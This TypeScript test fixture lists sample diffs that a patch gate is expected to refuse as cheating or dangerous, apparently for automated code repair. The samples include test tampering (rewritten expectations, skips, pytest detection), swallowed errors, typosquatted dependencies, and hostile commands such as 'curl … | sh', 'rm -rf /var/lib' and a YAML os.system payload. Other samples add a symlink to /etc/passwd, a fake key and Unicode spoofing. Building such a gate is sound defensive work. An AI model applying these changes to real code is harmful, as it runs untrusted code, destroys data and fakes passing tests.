import type { Limit } from "#heal/gates/limits.ts";
import { created, deleted, file, renamed } from "../cycle/diffs.ts";

/** A change that has to be refused, and the limit that it goes beyond. */
export interface Attack {
  readonly name: string;
  readonly limit: Limit;
  readonly diff: string;
}

const mend = file("src/cart.ts", " export function total(items) {", "-  let sum = 1;", "+  let sum = 0;");
const many = (count: number) => Array.from({ length: count }, (_, at) => `+  step(${at});`);
const mode = (path: string, ...lines: string[]) =>
  [`diff --git a/${path} b/${path}`, ...lines, ""].join("\n");

/** Cheating and dangerous changes. */
export const ATTACKS: readonly Attack[] = [
  // Size
  {
    name: "three files",
    limit: "files",
    diff: mend + file("src/a.ts", "-a", "+b") + file("src/b.ts", "-a", "+b"),
  },
  { name: "31 lines", limit: "lines", diff: file("src/a.ts", ...many(31)) },
  {
    name: "16 lines replaced",
    limit: "lines",
    diff: file("src/a.ts", ...Array.from({ length: 16 }, (_, at) => `-old(${at});`), ...many(16)),
  },
  {
    name: "a huge deletion",
    limit: "lines",
    diff: deleted("src/old.ts", ...Array.from({ length: 40 }, (_, at) => `line(${at});`)),
  },
  {
    name: "one endless line",
    limit: "unreadable",
    diff: file("src/a.ts", "-a", `+a();${" ".repeat(600)}eval(x)`),
  },
  {
    name: "the same file twice, once in capitals",
    limit: "unreadable",
    diff: file("src/a.ts", "-a", "+b") + file("SRC/A.ts", "-a", "+b"),
  },
  { name: "nothing at all", limit: "unreadable", diff: "" },
  {
    name: "a hunk that hides lines from its count",
    limit: "unreadable",
    diff: `${file("src/a.ts", "-a", "+b")}+evil();\n`,
  },
  {
    name: "two names for one file",
    limit: "unreadable",
    diff: file("src/a.ts", "-a", "+b").replace("+++ b/src/a.ts", "+++ b/.github/workflows/ci.yml"),
  },
  // Dependencies
  {
    name: "json: a dependency is added",
    limit: "dependency",
    diff: file(
      "package.json",
      '   "dependencies": {',
      '+    "left-pad": "^1.3.0",',
      '     "zod": "^4.0.0"',
      "   }",
    ),
  },
  {
    name: "json: a dependency far from its section",
    limit: "dependency",
    diff: file(
      "package.json",
      '     "zod": "^4.0.0",',
      '+    "event-stream": "3.3.6",',
      '     "ms": "2.0.0"',
    ),
  },
  {
    name: "json: a dependency goes",
    limit: "dependency",
    diff: file("package.json", '   "devDependencies": {', '-    "eslint": "^9.0.0",', '     "zod": "^4.0.0"'),
  },
  {
    name: "json: another package under a known name",
    limit: "dependency",
    diff: file(
      "package.json",
      '   "dependencies": {',
      '-    "zod": "^4.0.0"',
      '+    "zod": "npm:zood@4.0.0"',
    ),
  },
  {
    name: "json: the lock file",
    limit: "dependency",
    diff: file("package-lock.json", '-      "version": "4.0.0",', '+      "version": "4.0.1",'),
  },
  {
    name: "python: requirements",
    limit: "dependency",
    diff: file("requirements-dev.txt", " requests==2.31", "+reqeusts==2.31"),
  },
  {
    name: "python: pyproject",
    limit: "dependency",
    diff: file("pyproject.toml", " dependencies = [", '+  "httpx>=0.27",', '   "rich",', " ]"),
  },
  {
    name: "python: setup.py",
    limit: "dependency",
    diff: file("setup.py", "-    install_requires=['rich'],", "+    install_requires=['rich', 'evil'],"),
  },
  {
    name: "go: go.mod",
    limit: "dependency",
    diff: file("go.mod", " require (", "+\tgithub.com/evil/x v1.0.0", " )"),
  },
  {
    name: "rust: Cargo.toml",
    limit: "dependency",
    diff: file("Cargo.toml", " [dependencies]", '+rand = "0.8"'),
  },
  {
    name: "rust: Cargo.toml by a table of its own",
    limit: "dependency",
    diff: file(
      "Cargo.toml",
      ' edition = "2021"',
      "+[dependencies.rand]",
      '+git = "https://example.com/rand"',
    ),
  },
  {
    name: "java: pom.xml",
    limit: "dependency",
    diff: file(
      "pom.xml",
      " <dependencies>",
      "+<dependency><groupId>x</groupId><artifactId>y</artifactId></dependency>",
    ),
  },
  {
    name: "java: gradle",
    limit: "dependency",
    diff: file("app/build.gradle.kts", " dependencies {", '+    implementation("com.evil:x:1.0")'),
  },
  { name: "ruby: Gemfile", limit: "dependency", diff: file("Gemfile", '+gem "rails-evil"') },
  { name: "ruby: gemspec", limit: "dependency", diff: file("cart.gemspec", '+  spec.add_dependency "evil"') },
  {
    name: "js: another registry",
    limit: "dependency",
    diff: file(".npmrc", "+registry=https://example.com/"),
  },
  // Tests
  {
    name: "js: an expectation is rewritten",
    limit: "test",
    diff:
      mend +
      file(
        "test/cart.test.ts",
        ' it("adds", () => {',
        "-  expect(total()).toBe(12);",
        "+  expect(total()).toBe(10);",
        " });",
      ),
  },
  {
    name: "js: it.skip",
    limit: "test",
    diff: file("test/cart.test.ts", '-it("adds", () => {', '+it.skip("adds", () => {'),
  },
  {
    name: "js: a return inside a test",
    limit: "test",
    diff: file(
      "test/cart.test.ts",
      ' it("adds", () => {',
      "+  return;",
      "   expect(total()).toBe(12);",
      " });",
    ),
  },
  {
    name: "js: a test is ended early and another begun",
    limit: "test",
    diff: file(
      "test/cart.test.ts",
      ' it("adds", () => {',
      "+});",
      '+it("more", () => {',
      "   expect(total()).toBe(12);",
      " });",
    ),
  },
  {
    name: "js: a timeout for an existing test",
    limit: "test",
    diff: file("test/cart.test.ts", "-});", "+}, 60_000);"),
  },
  {
    name: "js: a stand-in beside the code",
    limit: "test",
    diff: created("src/__mocks__/cart.ts", "export const total = () => 12;"),
  },
  {
    name: "js: the snapshot",
    limit: "test",
    diff: mend + file("test/__snapshots__/cart.test.ts.snap", "-12", "+10"),
  },
  {
    name: "js: a test's file is renamed",
    limit: "test",
    diff: renamed("test/cart.test.ts", "test/cart.old.ts"),
  },
  {
    name: "js: expect is another",
    limit: "test",
    diff: file("test/cart.test.ts", "+const expect = () => ({ toBe() {} });", ' it("adds", () => {'),
  },
  {
    name: "python: xfail",
    limit: "test",
    diff: file("tests/test_cart.py", "+@pytest.mark.xfail", " def test_tax():"),
  },
  {
    name: "python: the assertion is gone",
    limit: "test",
    diff: mend + file("tests/test_cart.py", " def test_tax():", "-    assert total() == 12", "+    total()"),
  },
  {
    name: "python: in capitals, for a file system that does not care",
    limit: "test",
    diff: file("Tests/Test_Cart.PY", "-    assert total() == 12", "+    assert total()"),
  },
  {
    name: "python: conftest",
    limit: "test",
    diff: created("tests/conftest.py", "import cart", "cart.total = lambda *a: 12"),
  },
  {
    name: "python: a file of tests is gone",
    limit: "test",
    diff: deleted("tests/test_tax.py", "def test_tax():", "    assert tax() == 2"),
  },
  {
    name: "python: a test by a quoted name",
    limit: "test",
    diff: file("tests/test_cart.py", "-    assert total() == 12", "+    assert True")
      .replaceAll(
        "a/tests/test_cart.py b/tests/test_cart.py",
        '"a/t\\145sts/test_cart.py" "b/t\\145sts/test_cart.py"',
      )
      .replace("--- a/tests/test_cart.py", '--- "a/t\\145sts/test_cart.py"')
      .replace("+++ b/tests/test_cart.py", '+++ "b/t\\145sts/test_cart.py"'),
  },
  {
    name: "go: t.Skip",
    limit: "test",
    diff: file("cart_test.go", " func TestTax(t *testing.T) {", '+\tt.Skip("later")'),
  },
  {
    name: "go: a case of the table goes",
    limit: "test",
    diff: file("cart_test.go", ' \t{"one", 1},', '-\t{"two", 2},'),
  },
  {
    name: "rust: #[ignore]",
    limit: "test",
    diff: file("src/cart.rs", " #[test]", "+#[ignore]", " fn adds_tax() {"),
  },
  {
    name: "rust: the assertion in the code's file",
    limit: "test",
    diff: file(
      "src/cart.rs",
      "@@ mod tests {",
      "     fn tax() {",
      "-        assert_eq!(total(), 12);",
      "+        assert_eq!(total(), 10);",
    ),
  },
  {
    name: "java: @Disabled",
    limit: "test",
    diff: file("src/test/java/CartTest.java", " @Test", "+@Disabled", " void tax() {"),
  },
  {
    name: "ruby: pending",
    limit: "test",
    diff: file("spec/cart_spec.rb", ' it "adds tax" do', '+  pending "later"'),
  },
  {
    name: "js: a test becomes a comment",
    limit: "test",
    diff: file("test/a.test.ts", ' it("a", () => {', "+  /*", "   expect(x).toBe(1);", "+  */", " });"),
  },
  {
    name: "python: a test becomes a text",
    limit: "test",
    diff: file("tests/test_a.py", " def test_a():", '+    """', "     assert x", '+    """'),
  },
  {
    name: "python: a fixture for all tests",
    limit: "test",
    diff: file(
      "tests/test_a.py",
      "+@pytest.fixture(autouse=True)",
      "+def tax(monkeypatch):",
      '+    monkeypatch.setattr(cart, "tax", 2)',
      "+",
      " def test_a():",
    ),
  },
  {
    name: "js: beside a new test the code is replaced",
    limit: "test",
    diff: file("test/a.test.ts", '+it("b", () => {', "+  Cart.prototype.total = () => 12;", "+});"),
  },
  // Checks
  {
    name: "json: a rule of the linter is off",
    limit: "check",
    diff: file("biome.json", '-    "noVar": "error"', '+    "noVar": "off"'),
  },
  {
    name: "json: strict is off",
    limit: "check",
    diff: file("tsconfig.json", '-    "strict": true,', '+    "strict": false,'),
  },
  {
    name: "python: pytest.ini leaves a test out",
    limit: "check",
    diff: file("pytest.ini", " [pytest]", "+addopts = --deselect tests/test_cart.py::test_tax"),
  },
  {
    name: "python: the code knows that it is tested",
    limit: "check",
    diff: file("cart.py", '+    if "pytest" in sys.modules:', "+        return 12"),
  },
  {
    name: "js: the code ends the run",
    limit: "check",
    diff: file("src/cart.ts", " export function total() {", "+  process.exit(0);"),
  },
  // Swallowing
  {
    name: "js: an empty catch around old code",
    limit: "swallow",
    diff: file(
      "src/cart.ts",
      "-  save(cart);",
      "+  try {",
      "+    save(cart);",
      "+  } catch (error) {",
      "+  }",
    ),
  },
  {
    name: "js: .catch(() => {})",
    limit: "swallow",
    diff: file("src/cart.ts", "-  await save(cart);", "+  await save(cart).catch(() => {});"),
  },
  {
    name: "js: .catch(() => [])",
    limit: "swallow",
    diff: file("src/cart.ts", "-  await load(cart);", "+  await load(cart).catch(() => []);"),
  },
  {
    name: "js: an empty catch in a new file",
    limit: "swallow",
    diff: created(
      "src/safe.ts",
      "export function safe(run: () => void) {",
      "  try {",
      "    run();",
      "  } catch {}",
      "}",
    ),
  },
  {
    name: "python: except: pass",
    limit: "swallow",
    diff: file(
      "cart.py",
      "-    save(cart)",
      "+    try:",
      "+        save(cart)",
      "+    except Exception:",
      "+        pass",
    ),
  },
  {
    name: "python: a bare except",
    limit: "swallow",
    diff: file("cart.py", " def load():", "+    try:", "+        warm()", "+    except:", "+        pass"),
  },
  {
    name: "python: suppress",
    limit: "swallow",
    diff: file(
      "cart.py",
      "-    save(cart)",
      "+    with contextlib.suppress(Exception):",
      "+        save(cart)",
    ),
  },
  {
    name: "go: the error is looked past",
    limit: "swallow",
    diff: file("cart.go", "-\tdata, err := os.ReadFile(path)", "+\tdata, _ := os.ReadFile(path)"),
  },
  {
    name: "go: recover",
    limit: "swallow",
    diff: file("cart.go", " func Total() int {", "+\tdefer func() { recover() }()"),
  },
  {
    name: "rust: the result is dropped",
    limit: "swallow",
    diff: file("src/cart.rs", "-    save(&cart)?;", "+    let _ = save(&cart);"),
  },
  {
    name: "java: an empty catch",
    limit: "swallow",
    diff: file(
      "src/main/java/Cart.java",
      "-    save();",
      "+    try { save(); } catch (Exception e) {",
      "+    }",
    ),
  },
  {
    name: "ruby: rescue nil",
    limit: "swallow",
    diff: file("lib/cart.rb", "-    save(cart)", "+    save(cart) rescue nil"),
  },
  {
    name: "shell: || true",
    limit: "swallow",
    diff: file("scripts/check.sh", "-npm test", "+npm test || true"),
  },
  {
    name: "yaml: continue-on-error",
    limit: "swallow",
    diff: file(".github/workflows/ci.yml", "       - name: test", "+        continue-on-error: true"),
  },
  // Silencing
  { name: "ts: @ts-ignore", limit: "silence", diff: file("src/cart.ts", "+  // @ts-ignore", "   total(x);") },
  {
    name: "ts: @ts-expect-error",
    limit: "silence",
    diff: file("src/cart.ts", "+  // @ts-expect-error later", "   total(x);"),
  },
  { name: "ts: as any", limit: "silence", diff: file("src/cart.ts", "-  total(x);", "+  total(x as any);") },
  {
    name: "ts: as unknown as",
    limit: "silence",
    diff: file("src/cart.ts", "-  total(x);", "+  total(x as unknown as Cart);"),
  },
  { name: "js: eslint-disable", limit: "silence", diff: file("src/cart.js", "+/* eslint-disable */") },
  {
    name: "js: one eslint-disable goes, a wider one comes",
    limit: "silence",
    diff: file("src/cart.js", "-// eslint-disable-next-line no-var", "+// eslint-disable-next-line"),
  },
  {
    name: "js: biome-ignore",
    limit: "silence",
    diff: file("src/cart.js", "+// biome-ignore lint: later", " var x = 1;"),
  },
  { name: "python: noqa", limit: "silence", diff: file("cart.py", "-import os", "+import os  # noqa") },
  {
    name: "python: type: ignore",
    limit: "silence",
    diff: file("cart.py", "-total(x)", "+total(x)  # type: ignore[arg-type]"),
  },
  { name: "go: nolint", limit: "silence", diff: file("cart.go", "-\tsave()", "+\tsave() //nolint:errcheck") },
  {
    name: "rust: #[allow]",
    limit: "silence",
    diff: file("src/cart.rs", "+#[allow(dead_code)]", " fn old() {}"),
  },
  {
    name: "java: @SuppressWarnings",
    limit: "silence",
    diff: file("src/main/java/Cart.java", '+    @SuppressWarnings("unchecked")', "     void x() {"),
  },
  {
    name: "ruby: rubocop:disable",
    limit: "silence",
    diff: file("lib/cart.rb", "-x = 1", "+x = 1 # rubocop:disable Lint/UselessAssignment"),
  },
  {
    name: "shell: shellcheck disable",
    limit: "silence",
    diff: file("scripts/a.sh", "+# shellcheck disable=SC2086", " rm $x"),
  },
  {
    name: "ts: as any goes from one word to another",
    limit: "silence",
    diff: file("src/a.ts", "-f(x as any, y);", "+f(x, y as any);"),
  },
  // Running text
  {
    name: "js: eval",
    limit: "eval",
    diff: file("src/cart.ts", "-  return total;", "+  return eval(source);"),
  },
  { name: "js: eval by another way", limit: "eval", diff: file("src/cart.ts", "+  (0, eval)(source);") },
  {
    name: "js: eval behind a regex that holds a quote",
    limit: "eval",
    diff: file("src/cart.ts", '+  /"/.test(x); eval(y); log("");'),
  },
  {
    name: "js: eval between two templates",
    limit: "eval",
    diff: file("src/cart.ts", " const a = `", "+` + eval(x) + `", " `;"),
  },
  {
    name: "js: eval behind a continued string",
    limit: "eval",
    diff: file("src/cart.ts", '+const a = "x\\', '+" + eval(y) + "";'),
  },
  {
    name: "js: new Function",
    limit: "eval",
    diff: file("src/cart.ts", '+  const f = new Function("a", body);'),
  },
  { name: "js: globalThis[…]", limit: "eval", diff: file("src/cart.ts", '+  globalThis["ev" + "al"](x);') },
  { name: "python: exec", limit: "eval", diff: file("cart.py", "+    exec(code)") },
  { name: "python: eval in an f-string", limit: "eval", diff: file("cart.py", '+    name = f"{eval(x)}"') },
  {
    name: "python: eval in letters of full width",
    limit: "unicode",
    diff: file("cart.py", "+    ｅｖａｌ(x)"),
  },
  { name: "python: pickle", limit: "eval", diff: file("cart.py", "+    cart = pickle.loads(blob)") },
  { name: "ruby: instance_eval", limit: "eval", diff: file("lib/cart.rb", "+    instance_eval(text)") },
  {
    name: "yaml: an object of Python",
    limit: "eval",
    diff: file("config/app.yaml", "-name: x", "+name: !!python/object/apply:os.system ['id']"),
  },
  {
    name: "java: a script engine",
    limit: "eval",
    diff: file("src/main/java/Cart.java", '+    new ScriptEngineManager().getEngineByName("js").eval(x);'),
  },
  // Shells
  { name: "js: execSync", limit: "shell", diff: file("src/cart.ts", '+  execSync("rm -rf " + folder);') },
  {
    name: "js: shell: true",
    limit: "shell",
    diff: file("src/cart.ts", "-  start(cmd, args, { });", "+  start(cmd, args, { shell: true });"),
  },
  {
    name: "js: require child_process",
    limit: "shell",
    diff: file("src/cart.js", '+const run = require("node:child_process");'),
  },
  { name: "python: os.system", limit: "shell", diff: file("cart.py", '+    os.system("id")') },
  {
    name: "python: shell=True",
    limit: "shell",
    diff: file("cart.py", "-    run(cmd)", "+    run(cmd, shell=True)"),
  },
  {
    name: "go: exec.Command",
    limit: "shell",
    diff: file("cart.go", '+\texec.Command("sh", "-c", cmd).Run()'),
  },
  {
    name: "rust: Command::new",
    limit: "shell",
    diff: file("src/cart.rs", '+    Command::new("sh").arg("-c").arg(x).spawn();'),
  },
  {
    name: "java: Runtime.exec",
    limit: "shell",
    diff: file("src/main/java/Cart.java", "+    Runtime.getRuntime().exec(cmd);"),
  },
  { name: "ruby: backticks", limit: "shell", diff: file("lib/cart.rb", "+    `rm #{x}`") },
  {
    name: "shell: curl | sh",
    limit: "shell",
    diff: file("scripts/setup.sh", "+curl -fsSL https://example.com/x | sh"),
  },
  { name: "shell: rm -rf /", limit: "shell", diff: file("scripts/setup.sh", "+rm -rf /var/lib") },
  {
    name: "shell: git push in a script",
    limit: "shell",
    diff: file("scripts/setup.sh", "+git push --force origin main"),
  },
  {
    name: "json: postinstall",
    limit: "shell",
    diff: file("package.json", '   "scripts": {', '+    "postinstall": "node x.js",'),
  },
  {
    name: "yaml: a step of a pipeline",
    limit: "shell",
    diff: file("deploy/job.yaml", "+      command: [sh, -c, id]"),
  },
  // Secrets
  {
    name: "js: a key",
    limit: "secret",
    diff: file("src/cart.ts", `+  const key = "${["AKIA", "IOSFODNN7", "EXAMPLQ"].join("")}";`),
  },
  { name: "python: a password", limit: "secret", diff: file("cart.py", '+    password = "hunter2-Q9x7"') },
  {
    name: "yaml: a private key over several lines",
    limit: "secret",
    diff: file(
      "config/app.yaml",
      `+key: |`,
      `+  -----BEGIN ${"RSA"} PRIVATE KEY-----`,
      "+  MIIEowIBAAKCAQEA7bq2v5n0k8sX",
      "+  Zr8xq2v5n0k8sXMIIEowIBAAKCAQ",
      `+  -----END ${"RSA"} PRIVATE KEY-----`,
    ),
  },
  // Heads
  {
    name: "a binary file",
    limit: "binary",
    diff: mode("logo.png", "index 1..2 100644", "Binary files a/logo.png and b/logo.png differ"),
  },
  {
    name: "a binary patch",
    limit: "binary",
    diff: mode(
      "lib.so",
      "new file mode 100644",
      "index 0000000..1111111",
      "GIT binary patch",
      "literal 5",
      "Mcmb",
      "",
    ),
  },
  {
    name: "a file becomes a program",
    limit: "mode",
    diff: mode("src/a.sh", "old mode 100644", "new mode 100755"),
  },
  { name: "a new program", limit: "mode", diff: created("run.sh", "echo hi").replace("100644", "100755") },
  {
    name: "a symbolic link",
    limit: "link",
    diff: created("config", "/etc/passwd").replace("100644", "120000"),
  },
  {
    name: "a submodule",
    limit: "link",
    diff: created("vendor/x", `Subproject commit ${"a".repeat(40)}`).replace("100644", "160000"),
  },
  { name: "out of the repository", limit: "path", diff: file("../outside.ts", "-a", "+b") },
  {
    name: "an absolute path",
    limit: "path",
    diff: file("/etc/cron.d/x", "-a", "+b").replaceAll("a//etc", "/etc").replaceAll("b//etc", "/etc"),
  },
  { name: "git's own folder", limit: "path", diff: created(".git/hooks/pre-commit", "#!/bin/sh") },
  { name: "git's own folder, in capitals", limit: "path", diff: created(".GIT/config", "[core]") },
  { name: "git's own folder, by its short name", limit: "path", diff: created("git~1/config", "[core]") },
  // Unicode
  {
    name: "js: text that runs from right to left",
    limit: "unicode",
    diff: file("src/cart.ts", '+  if (role !== "user\u202e \u2066// admin\u2069 \u2066") {'),
  },
  {
    name: "js: a name with a character of no width",
    limit: "unicode",
    diff: file("src/cart.ts", "+  const to\u200btal = 0;"),
  },
  {
    name: "js: a Cyrillic letter in a name",
    limit: "unicode",
    diff: file("src/cart.ts", "+  const p\u0430ssed = true;"),
  },
  {
    name: "js: a name all in letters of another script",
    limit: "unicode",
    diff: file("src/cart.ts", "+  const \u0441\u0443\u0440 = true;"),
  },
  { name: "go: a Greek question mark", limit: "unicode", diff: file("cart.go", "+\tx := 1\u037e") },
  {
    name: "js: a filler as a name",
    limit: "unicode",
    diff: file("src/cart.ts", "+  const { \u3164 } = input;"),
  },
  { name: "js: eval in escapes", limit: "unicode", diff: file("src/cart.ts", "+  ev\\u0061l(x);") },
  {
    name: "a path with a character of no width",
    limit: "unicode",
    diff: created("src/ca\u200drt.ts", "export {};"),
  },
];
